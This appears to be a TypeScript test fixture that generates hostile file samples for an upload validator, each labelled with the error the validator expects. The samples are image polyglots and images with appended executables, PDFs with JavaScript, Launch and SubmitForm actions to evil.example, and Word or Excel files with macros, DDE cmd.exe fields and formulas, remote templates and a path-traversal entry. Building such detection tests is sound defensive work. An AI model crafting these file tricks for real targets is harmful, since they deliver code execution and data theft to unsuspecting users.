import { crc32, deflateSync } from 'node:zlib';
import type { DocumentErrorCode } from '../document-error.ts';
import { zipFiles } from '../zip-files.ts';

export interface HostileEvidence {
  readonly name: string;
  readonly bytes: Buffer;
  readonly code: DocumentErrorCode;
}

export const bytesOf = (text: string): Buffer => Buffer.from(text, 'latin1');
const page = '<html><script>alert(1)</script>';
const archive = bytesOf(Buffer.from(zipFiles({ 'a.txt': bytesOf('x') })).toString('latin1'));

// Pictures

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([bytesOf(type), data]);
  const frame = Buffer.alloc(body.length + 8);
  frame.writeUInt32BE(data.length);
  body.copy(frame, 4);
  frame.writeUInt32BE(crc32(body), body.length + 4);
  return frame;
}

export function pngOf(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    bytesOf('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(2))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export function jpegOf(width: number, height: number): Buffer {
  const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]),
    bytesOf('JFIF\0\x01\x01\0\0\x01\0\x01\0\0'),
    frame,
    Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 0x3f, 0, 0x12, 0xff, 0, 0x34, 0xff, 0xd0, 0x56, 0xff, 0xd9]),
  ]);
}

export function webpOf(width: number, height: number): Buffer {
  const data = Buffer.alloc(6);
  data[0] = 0x2f;
  data.writeUInt32LE((width - 1) | ((height - 1) << 14), 1);
  const body = Buffer.concat([bytesOf('WEBPVP8L\x05\0\0\0'), data]);
  const head = Buffer.alloc(8);
  head.write('RIFF', 'latin1');
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body]);
}

const good = { png: pngOf(1, 1), jpeg: jpegOf(1, 1), webp: webpOf(1, 1) };

function pictures(): HostileEvidence[] {
  const broken = Buffer.from(good.png);
  broken[20] = 9;
  return [
    { name: 'a PNG’s first bytes alone', bytes: good.png.subarray(0, 16), code: 'file.damaged' },
    { name: 'a PNG cut off', bytes: good.png.subarray(0, -12), code: 'file.damaged' },
    { name: 'a PNG of a wrong checksum', bytes: broken, code: 'file.damaged' },
    { name: 'a PNG of no height', bytes: pngOf(1, 0), code: 'file.damaged' },
    { name: 'a PNG of a billion pixels', bytes: pngOf(29_000, 29_000), code: 'file.too_many_pixels' },
    { name: 'a PNG that is a page', bytes: bytesOf(`\x89PNG\r\n\x1a\n${page}`), code: 'file.disguised' },
    { name: 'a JPEG that is a page', bytes: bytesOf(`\xff\xd8\xff\xe0${page}`), code: 'file.disguised' },
    { name: 'a WebP that is a page', bytes: bytesOf(`RIFF\x24\0\0\0WEBP${page}`), code: 'file.disguised' },
    { name: 'a JPEG cut off', bytes: good.jpeg.subarray(0, -2), code: 'file.damaged' },
    { name: 'a JPEG without a picture', bytes: bytesOf('\xff\xd8\xff\xd9'), code: 'file.damaged' },
    { name: 'a JPEG of four billion pixels', bytes: jpegOf(65_000, 65_000), code: 'file.too_many_pixels' },
    { name: 'a WebP longer than it is', bytes: good.webp.subarray(0, -3), code: 'file.damaged' },
    { name: 'a WebP without a picture', bytes: bytesOf('RIFF\x0c\0\0\0WEBPEXIF\0\0\0\0'), code: 'file.damaged' },
    ...Object.entries(good).flatMap(([kind, picture]): HostileEvidence[] => [
      { name: `a ${kind} with a page behind`, bytes: Buffer.concat([picture, bytesOf(page)]), code: 'file.disguised' },
      { name: `a ${kind} with an archive behind`, bytes: Buffer.concat([picture, archive]), code: 'file.disguised' },
      {
        name: `a ${kind} with a program behind`,
        bytes: Buffer.concat([picture, bytesOf('MZ\x90\0')]),
        code: 'file.disguised',
      },
    ]),
  ];
}

// PDF

export const pdfOf = (objects: string): Buffer =>
  bytesOf(`%PDF-1.7\n%\xe2\xe3\n${objects}\nxref\n0 1\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`);

const packedIn = (objects: string, dictionary = ''): string => {
  const packed = deflateSync(bytesOf(objects)).toString('latin1');
  return `4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode${dictionary}/Length ${packed.length}>>stream\r\n${packed}\r\nendstream endobj`;
};

function documents(): HostileEvidence[] {
  const script = '<</S/JavaScript/JS(app.alert(1))>>';
  const open = (action: string): string => `1 0 obj<</Type/Catalog/OpenAction${action}>>endobj`;
  const cases: readonly (readonly [string, string, DocumentErrorCode])[] = [
    ['a script', open(script), 'file.script'],
    ['a script under another name', open('<</S/J#61vaScr#69pt/JS(app.alert(1))>>'), 'file.script'],
    ['a script packed away', packedIn(`1 0 ${script}`), 'file.script'],
    ['a script in what looks like a comment', `%${open(script)}`, 'file.script'],
    ['a script in what looks like a text', `1 0 obj(${open(script)})`, 'file.script'],
    ['a script behind a stream that doesn’t begin', `% stream\n${packedIn(`1 0 ${script}`)}`, 'file.script'],
    ['scripts by their names', '1 0 obj<</Names<</JavaScript 5 0 R>>>>endobj', 'file.script'],
    ['a form with scripts', '1 0 obj<</AcroForm<</XFA[(a) 5 0 R]>>>>endobj', 'file.script'],
    ['a program to start', open('<</S/Launch/F(cmd.exe)>>'), 'file.launch'],
    ['a form to send', open('<</S/SubmitForm/F(http://evil.example)>>'), 'file.launch'],
    ['data to take in', open('<</S/ImportData/F(x.fdf)>>'), 'file.launch'],
    ['another document to go to', open('<</S/GoToE/F(x.pdf)>>'), 'file.launch'],
    ['a file in it', '1 0 obj<</Names<</EmbeddedFiles 5 0 R>>>>endobj', 'file.attachment'],
    ['a film in it', '1 0 obj<</Subtype/RichMedia>>endobj', 'file.attachment'],
    ['a password', '1 0 obj<</Encrypt 5 0 R>>endobj', 'file.encrypted'],
    ['objects packed in a way of their own', packedIn('1 0 <<>>', '/DecodeParms<</Predictor 12>>'), 'file.damaged'],
    [
      'objects packed twice',
      packedIn('1 0 <<>>').replace('/FlateDecode', '/LZWDecode').replace('x\x9c', 'xx'),
      'file.damaged',
    ],
  ];
  return [
    ...cases.map(([name, objects, code]) => ({ name: `a PDF with ${name}`, bytes: pdfOf(objects), code })),
    { name: 'a PDF cut off', bytes: pdfOf('').subarray(0, -20), code: 'file.damaged' },
    {
      name: 'a page before a PDF’s objects',
      bytes: bytesOf(`%PDF-1.7\n${page}\nstartxref\n9\n%%EOF`),
      code: 'file.disguised',
    },
    { name: 'an archive in a PDF', bytes: Buffer.concat([bytesOf('%PDF-1.7\n'), archive]), code: 'file.disguised' },
    {
      name: 'an archive in a PDF with something behind',
      bytes: Buffer.concat([pdfOf(''), archive, bytesOf('\n%%EOF\n')]),
      code: 'file.disguised',
    },
  ];
}

// Word and Excel

const main = {
  word: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  xl: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
} as const;

export function officeOf(
  program: keyof typeof main,
  parts: Readonly<Record<string, string | Buffer>>,
  type: string = main[program],
): Buffer {
  const document = program === 'word' ? 'word/document.xml' : 'xl/workbook.xml';
  const files = {
    '[Content_Types].xml': `<Types><Override PartName="/${document}" ContentType="${type}"/></Types>`,
    '_rels/.rels': `<Relationships><Relationship Id="a" Type="x/officeDocument" Target="${document}"/></Relationships>`,
    [document]: '<document/>',
    ...parts,
  };
  return Buffer.from(
    zipFiles(
      Object.fromEntries(
        Object.entries(files).map(([name, data]) => [name, typeof data === 'string' ? bytesOf(data) : data]),
      ),
    ),
  );
}

const relation = (type: string, target: string, mode = ' TargetMode="External"'): string =>
  `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="${target}"${mode}/></Relationships>`;
const ofDocument = 'word/_rels/document.xml.rels';
const field = (...pieces: readonly string[]): string =>
  `<d><fldChar/>${pieces.map((piece) => `<r><instrText>${piece}</instrText></r>`).join('')}<fldChar/></d>`;

function officeFiles(): HostileEvidence[] {
  const word = (name: string, code: DocumentErrorCode, parts: Readonly<Record<string, string | Buffer>>) => ({
    name: `a Word file with ${name}`,
    bytes: officeOf('word', parts),
    code,
  });
  const xl = (name: string, code: DocumentErrorCode, parts: Readonly<Record<string, string | Buffer>>) => ({
    name: `a workbook with ${name}`,
    bytes: officeOf('xl', parts),
    code,
  });
  const sheet = (formula: string): string => `<worksheet><f>${formula}</f></worksheet>`;
  return [
    word('macros', 'file.macro', { 'word/vbaProject.bin': 'x' }),
    {
      name: 'a Word file that says it has macros',
      bytes: officeOf('word', {}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      code: 'file.macro',
    },
    word('a control', 'file.macro', { 'word/activeX/activeX1.bin': 'x' }),
    word('a control by relation', 'file.macro', { [ofDocument]: relation('control', 'x.xml', '') }),
    word('a remote template', 'file.remote', {
      'word/_rels/settings.xml.rels': relation('attachedTemplate', 'http://evil.example/x.dotm'),
    }),
    word('a picture elsewhere', 'file.remote', { [ofDocument]: relation('image', 'http://evil.example/p.png') }),
    word('a frame elsewhere', 'file.remote', { [ofDocument]: relation('frame', 'http://evil.example/') }),
    word('a link to a share', 'file.remote', { [ofDocument]: relation('hyperlink', '\\\\evil\\x') }),
    word('a link to another machine', 'file.remote', { [ofDocument]: relation('hyperlink', 'file://evil/x') }),
    word('a link to a handler', 'file.remote', { [ofDocument]: relation('hyperlink', 'search-ms:query=x') }),
    word('an OLE object', 'file.ole', { 'word/embeddings/oleObject1.bin': 'MZ' }),
    word('an OLE object under another name', 'file.ole', {
      'word/media/image1.dat': '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
    }),
    word('an OLE object by relation', 'file.ole', { [ofDocument]: relation('oleObject', 'x', '') }),
    word('an OLE object by element', 'file.ole', { 'word/document.xml': '<o:OLEObject Type="Embed"/>' }),
    word('a page as a part', 'file.foreign_text', { 'word/afchunk.html': '<script>alert(1)</script>' }),
    word('foreign text by relation', 'file.foreign_text', { [ofDocument]: relation('aFChunk', 'x.dat', '') }),
    word('foreign text by element', 'file.foreign_text', { 'word/document.xml': '<w:altChunk r:id="x"/>' }),
    word('a program', 'file.attachment', { 'word/embeddings/a.exe': 'MZ' }),
    word('a program under another name', 'file.disguised', { 'word/media/image1.png': 'MZ\x90\0' }),
    word('a document in a document in it', 'file.attachment', {
      'word/embeddings/a.docx': officeOf('word', { 'word/embeddings/b.docx': officeOf('word', {}) }),
    }),
    word('macros in a workbook in it', 'file.macro', {
      'word/embeddings/a.xlsx': officeOf('xl', { 'xl/vbaProject.bin': 'x' }),
    }),
    word('a DDE field', 'file.dde', { 'word/document.xml': field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe') }),
    word('a DDE field in pieces', 'file.dde', { 'word/header1.xml': field(' D', 'DE', 'AUTO cmd') }),
    word('a simple DDE field', 'file.dde', { 'word/document.xml': '<w:fldSimple w:instr=" dde cmd "/>' }),
    word('a DDE field in a part elsewhere', 'file.dde', { 'other/part.dat': field('DDE cmd') }),
    word('a text taken in', 'file.remote', { 'word/document.xml': field(' INCLUDETEXT "http://evil.example/x"') }),
    word('an entity', 'file.damaged', { 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }),
    word('a part in another encoding', 'file.damaged', { 'word/document.xml': '\xff\xfe<\0x\0/\0>\0' }),
    word('a path that climbs out', 'file.disguised', { '../x': 'x' }),
    xl('a link to another workbook', 'file.remote', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
    xl('a DDE link', 'file.dde', {
      'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
    }),
    xl('a connection', 'file.remote', { 'xl/connections.xml': '<connections/>' }),
    xl('a DDE formula', 'file.dde', { 'xl/worksheets/sheet1.xml': sheet("cmd|'/c calc'!A0") }),
    xl('a formula that fetches', 'file.remote', {
      'xl/worksheets/sheet1.xml': sheet('WEBSERVICE(&quot;http://evil.example&quot;)'),
    }),
    xl('a name that calls', 'file.dde', {
      'xl/workbook.xml': "<workbook><definedName>MSEXCEL|'\\x.exe'!A1</definedName></workbook>",
    }),
    xl('macro sheets', 'file.macro', { 'xl/macrosheets/sheet1.xml': '<x/>' }),
    { name: 'any archive', bytes: archive, code: 'file.type_refused' },
    { name: 'a workbook cut off', bytes: officeOf('xl', {}).subarray(0, 60), code: 'file.damaged' },
    {
      name: 'a presentation',
      bytes: officeOf('word', {}, 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml'),
      code: 'file.type_refused',
    },
  ];
}

/** Bytes that claim to be what may be kept, each with what is wrong with them. */
export function hostileEvidence(): readonly HostileEvidence[] {
  return [...pictures(), ...documents(), ...officeFiles()];
}
